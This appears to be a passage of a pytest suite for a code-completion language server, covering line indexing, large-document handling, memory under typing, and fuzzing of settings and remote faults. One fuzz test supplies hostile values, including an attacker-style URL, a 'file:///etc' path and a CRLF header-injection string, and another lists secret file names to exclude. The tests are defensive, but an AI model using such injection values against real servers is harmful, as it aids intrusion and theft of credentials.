    from lsp_server.rpc import change_span

    rng = random.Random(23)
    text = "".join(rng.choice(["ab", "\n", "cde\r\n", "x" * 300, "\n\n"]) for _ in range(40_000))  # LF and CRLF
    index: lines.LineIndex | None = lines.LineIndex.of(text)
    for step in range(400):
        assert index is not None
        a = rng.randint(0, len(text))
        b = min(len(text), a + rng.choice([0, 0, 1, 5, 200, 50_000]))
        new = rng.choice(["", "q", "\n", "a\r\nb\n", "z" * 70_000, "\n" * 30])
        changed = text[:a] + new + text[b:]
        index, text = index.edited(a, b, new, changed), changed
        if index is None:  # the edit split a CRLF (or made a lone CR): the plain path, as lines.LineIndexes.get says
            assert lines.has_lone_cr(text)
            text = text.replace("\r", "")
            index = lines.LineIndex.of(text)
        for _ in range(5):
            line = rng.randint(0, text.count("\n") + 2)
            parts = text.split("\n", line)
            assert index.line_start(line) == (None if len(parts) <= line else len(text) - len(parts[-1])), (step, line)
            offset = rng.randint(0, len(text))
            assert index.line_of(offset) == text.count("\n", 0, offset)
            if line <= text.count("\n"):  # the edge's positions: the same with the index as by walking the text
                pos = types.Position(line=line, character=rng.randint(0, 400))
                rng_ = types.Range(start=pos, end=pos)
                assert change_span(text, rng_, "utf-16", index) == change_span(text, rng_, "utf-16")
    for line in range(0, text.count("\n"), 97):
        index.line_start(line)
    starts = [*index._offsets, len(text)]
    longest_line = max(map(len, text.split("\n")))  # a checkpoint is a line start: a gap holds whole lines
    assert max(b - a for a, b in itertools.pairwise(starts)) <= 4 * lines.SPACING + longest_line + 1


@pytest.mark.parametrize("newline", ["\n", "\r\n"], ids=["lf", "crlf"])
def test_a_big_document_request_sees_the_windows_the_whole_text_gives(newline: str) -> None:
    """Item 9: a request on a document over 1 MB goes on with only the part its prompt can reach
    (``documents.view_around``); the prefix and suffix windows cut from that part, and the range and line the request
    answers for, are the ones the whole text gives, at the start, middle and end, for LF and CRLF documents."""
    import random

    from lsp_server import context
    from lsp_server.lines import LineIndex

    rng = random.Random(9)
    lines_ = [f"    v{k} = f{k % 97}(a, b) + {'x' * rng.randint(0, 90)}" for k in range(40_000)]
    source = newline.join(lines_)
    assert len(source) > 2_000_000
    index = LineIndex.of(source)
    counter = context.TokenCounter(lambda t: len(t) // 3 + 1, lambda t: len(t) // 3 + 1)
    for line in (0, 5, 20_000, 39_999, 50_000):
        pos = types.Position(line=line, character=7)
        whole = edit_point(source, pos, None, "utf-16")
        part = edit_point(source, pos, None, "utf-16", index, 2048)
        assert len(part.text) < 600_000 and part.line == whole.line and part.range == whole.range
        for budget, ratio in ((2048, 0.75), (500, 0.5)):
            a = context.build(whole.text, whole.offset, counter, budget, ratio, whole.line)
            b = context.build(part.text, part.offset, counter, budget, ratio, part.line)
            assert (a.prefix, a.suffix) == (b.prefix, b.suffix), (line, budget)


@pytest.mark.parametrize("newline", ["\n", "\r\n"], ids=["lf", "crlf"])
def test_typing_in_a_big_document_keeps_it_in_sync_and_holds_one_copy(newline: str) -> None:
    """Item 9 over stdio: a 20 MB ``.txt`` (no grammar: every cost is the text's handling; LF and CRLF) typed at its end with
    pipelined keystrokes and requests. The server's copy stays the editor's (``documentState``'s SHA-256 after the
    edits), every request is answered, a small document answers between them, and the server's memory stays about
    one copy of the document: the edge no longer keeps the text each pending request was sent on (20 pipelined
    keystrokes held 20 copies, 400 MB), the completion cache keeps windows, the ring a block."""
    import hashlib

    s = RawServer()
    try:
        s.initialize("demo", {"maxTokens": 4, "timeBudgetMs": 30000})
        open_doc(s, "file:///w/small.py", "def add(a, b):\n    \n")
        assert "items" in inline(s, "file:///w/small.py", 1, 4)
        before = memory(s)
        block = "".join(f"def f{k}(a, b):\n    return a * {k} + b\n\n\n" for k in range(1000)).replace("\n", newline)
        text = block * 530 + f"def main():{newline}    "
        assert len(text) > 20_000_000
        open_doc(s, "file:///w/big.txt", text, language="plaintext")
        text, version, ids = _keystrokes(s, "file:///w/big.txt", text, 60, 1)  # all 60 pipelined
        during = memory(s)  # answered in order: after the 60 requests were dispatched, before most are answered
        assert "items" in inline(s, "file:///w/small.py", 1, 4)
        for r in ids:
            assert "result" in s.response(r, timeout=300) or s.responses[json.dumps(r)][0]["error"]["code"] == -32800
        state = s.request("codellama/documentState", {"uri": "file:///w/big.txt"}, timeout=120)["result"]
        assert state["sha256"] == hashlib.sha256(text.encode()).hexdigest() and state["version"] == version
        after = memory(s)
        assert after["documentChars"] - before["documentChars"] == len(text)
        assert after["pendingRequests"] <= 1  # this request
        # glibc's bytes in use (Python's strings are malloc'ed): about one copy of 20 MB, with or without requests in
        # flight - not one per pending request (60: 1.2 GB). RSS is not the measure: freed blocks stay mapped.
        for m in (during, after):
            assert m["mallocInUseBytes"] - before["mallocInUseBytes"] < 2.5 * len(text), (before, during, after)
        assert "Traceback" not in s.stderr()
    finally:
        s.stop()


def test_a_document_over_the_message_limit_is_refused_once_and_quietly() -> None:
    """Item 9, past the edge's 64 MiB message limit: a 70 MB ``didOpen`` cannot be read (the framing refuses it), so
    the document is refused by name: one warning says so, its keystrokes and requests follow quietly (an empty answer
    each, no "out of sync" popup per keystroke, as there was), and a small document still answers."""
    s = RawServer()
    try:
        s.initialize("demo", {"maxTokens": 4, "timeBudgetMs": 30000})
        text = "".join(f"def f{k}(a, b):\n    return a * {k} + b\n\n\n" for k in range(1000)) * 1850
        assert len(text) > 64 << 20
        open_doc(s, "file:///w/huge.txt", text, language="plaintext")
        open_doc(s, "file:///w/small.py", "def add(a, b):\n    \n")
        line = text.count("\n")
        for version in range(2, 5):
            change(s, "file:///w/huge.txt", version, line, "x")
            assert inline(s, "file:///w/huge.txt", line, 1) == {"items": []}
        assert "items" in inline(s, "file:///w/small.py", 1, 4)
        shown = messages(s)
        assert len(shown) == 1 and "huge.txt" in shown[0] and "no completions" in shown[0], shown
        assert "too big to follow" in s.stderr() and "Traceback" not in s.stderr()
    finally:
        s.stop()


# ---- 12. memory under pipelined keystrokes ---------------------------------------------------------------------------
@pytest.mark.slow
def test_memory_is_flat_under_pipelined_keystrokes() -> None:
    """Item 12 over stdio: the soak's typing (bursts of 20 keystrokes, each a ``didChange`` and a request, every 10th
    cancelled) in a document longer than the prompt window. After 1,000 keystrokes of warm-up, 3,000 more leave
    Python's heap (tracemalloc in the server, ``PYTHONTRACEMALLOC``: bytes, not time, so a busy machine cannot
    break this) less than 1.5 MB (0.5 KB a keystroke; the issue saw 2 KB) above where it was, once the kept prompts
    are taken out, and the kept prompts within their budget (8 MiB here). The growth the issue saw was the kept
    prompts filling their budget (64 MiB for the demo model, thousands of keystrokes to fill)."""
    s = RawServer(("--kept-prompts-mib", "8"), env={**server_env(), "PYTHONTRACEMALLOC": "1"})
    try:
        s.initialize("demo", {"maxTokens": 8, "timeBudgetMs": 2000})
        uri = "file:///w/typing.py"
        text = "import os\n\n\n" + "".join(f"def f{k}(a, b):\n    return a * {k} + b\n\n\n" for k in range(400))
        text += "def main(argv):\n    total = 0\n    "
        open_doc(s, uri, text)
        text, version = _type_at_end(s, uri, text, 1000, 1)
        warm = memory(s)
        text, version = _type_at_end(s, uri, text, 3000, version)
        end = memory(s)
        heap = (end["pythonHeapBytes"] - end["keptPromptBytes"]) - (warm["pythonHeapBytes"] - warm["keptPromptBytes"])
        print(f"Python heap without kept prompts: {heap / 1024:+.0f} KB over 3,000 keystrokes; warm {warm}; end {end}")
        assert heap < 1_500_000, (warm, end)
        assert end["keptPromptBytes"] <= end["keptPromptBudget"] == 8 << 20
        assert end["pendingRequests"] <= 1 and end["asyncioTasks"] <= warm["asyncioTasks"] + 2
        assert end["gcObjects"] - warm["gcObjects"] < 3000, (warm["gcObjects"], end["gcObjects"])  # not one per keystroke
        assert "Traceback" not in s.stderr()
    finally:
        s.stop()


# ---- fuzz: settings, exclusions, remote faults ---------------------------------------------------------------------

_json = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=30),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=8,
)
_keys = st.sampled_from([*sorted(config._FIELDS), "codellama", "token", "x"])


@hsettings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(raw=st.dictionaries(_keys, _json | st.text(min_size=500, max_size=3000), max_size=6))
def test_fuzz_settings_never_raise_and_messages_stay_short(raw: dict) -> None:
    """Any JSON for any setting: parsed or reported, never an exception; every problem is one short line."""
    trust = config.Trust.from_command_line({"url": "http://127.0.0.1:8080"})
    guarded, refused = config.guard(raw, trust)
    s, problems = config.parse(guarded)
    for p in refused + problems:
        assert len(p) <= 1100 and "\n" not in p and "\r" not in p, p
    assert s.url in ("", "http://127.0.0.1:8080") or config.origin(s.url) == "http://127.0.0.1:8080"
    assert s.api_key_env == "CODELLAMA_API_KEY" and s.tls_verify


_secret_names = st.sampled_from([".env", ".env.local", "id_rsa", "server.key", "secrets.yaml", "cert.pem", "a.p12"])


@hsettings(max_examples=200, deadline=None)
@given(name=_secret_names, flips=st.lists(st.booleans(), min_size=20, max_size=20), slash=st.booleans(), uri=st.booleans())
def test_fuzz_excluded_names_in_any_case_and_spelling(name: str, flips: list[bool], slash: bool, uri: bool) -> None:
    spelled = "".join(c.upper() if f else c for c, f in zip(name, flips + [False] * len(name), strict=False))
    path = f"/w/sub/{spelled}" + ("/" if slash else "")
    assert config.Settings().excluded(f"file://{path}" if uri else path), path


@hsettings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(
    models_status=st.sampled_from([200, 200, 401, 404, 500]),
    n_vocab=st.sampled_from([0, 1, 2]),
    tokenize=st.sampled_from(["none", "same", "other"]),
    text=st.text(max_size=40),
    endless=st.booleans(),
    usage=st.booleans(),
)
def test_fuzz_remote_faults_end_in_an_answer_or_a_clear_error(
    demo_vocab, models_status, n_vocab, tokenize, text, endless, usage
) -> None:
    """A misbehaving server of any of these kinds: the engine starts (down or up), every request ends within
    its budget with a result or an ``EngineError`` whose message is one short line."""
    from lsp_server.engines import EngineError

    tok = {"none": None, "same": demo_vocab.encode, "other": lambda t: [1, 2, 3]}[tokenize]
    sizes = {0: 0, 1: demo_vocab.n_vocab, 2: demo_vocab.n_vocab + 7}
    b = Behaviour(models_status=models_status, n_vocab=sizes[n_vocab], tokenize=tok, text=text, endless=endless, usage=usage)
    with fake_openai(b) as fake:
        engine = _engine(fake, demo_vocab)
        try:
            if engine.down is not None:
                assert len(engine.down) <= 400 and "\n" not in engine.down
            t0 = time.perf_counter()
            try:
                result = engine.submit(_request(demo_vocab, max_tokens=8, time_budget_s=1.0)).future.result(30)
                assert len(result.candidates[0].text) <= max(8, len(text)) or result.stop in ("length", "time")
            except EngineError as exc:
                assert len(str(exc)) <= 400 and "\n" not in str(exc)
            assert time.perf_counter() - t0 < 10
        finally:
            engine.close()


def test_fuzz_settings_over_stdio_leave_the_server_alive() -> None:
    """Random settings, hostile and wrong-shaped, sent to one real server: never a traceback, always an answer."""
    import random

    rng = random.Random(23)
    values = [None, True, 0, -1, 10**12, 1.5, "", "x" * 5000, "http://[::1", "http://evil.example:1", "file:///etc",
              ["python"], {"a": 1}, {"*": False}, [1, 2], "\r\nInjected: 1", "CODELLAMA_API_KEY", "HOME"]  # fmt: skip
    keys = sorted(config._FIELDS)
    s = RawServer()
    try:
        s.initialize("demo", {"maxTokens": 4, "timeBudgetMs": 30000})
        for _ in range(60):
            raw = {rng.choice(keys): rng.choice(values) for _ in range(rng.randint(1, 4))}
            raw.pop("model", None)  # loads are the model tests' business; here: every other setting
            s.notify("workspace/didChangeConfiguration", {"settings": raw})
        assert s.request("codellama/documentState", {"uri": "file:///x.py"})["result"] is None
        assert s.proc.poll() is None and "Traceback" not in s.stderr()
        assert all(len(m) <= 1100 and "\n" not in m for m in messages(s))
    finally:
        s.stop()
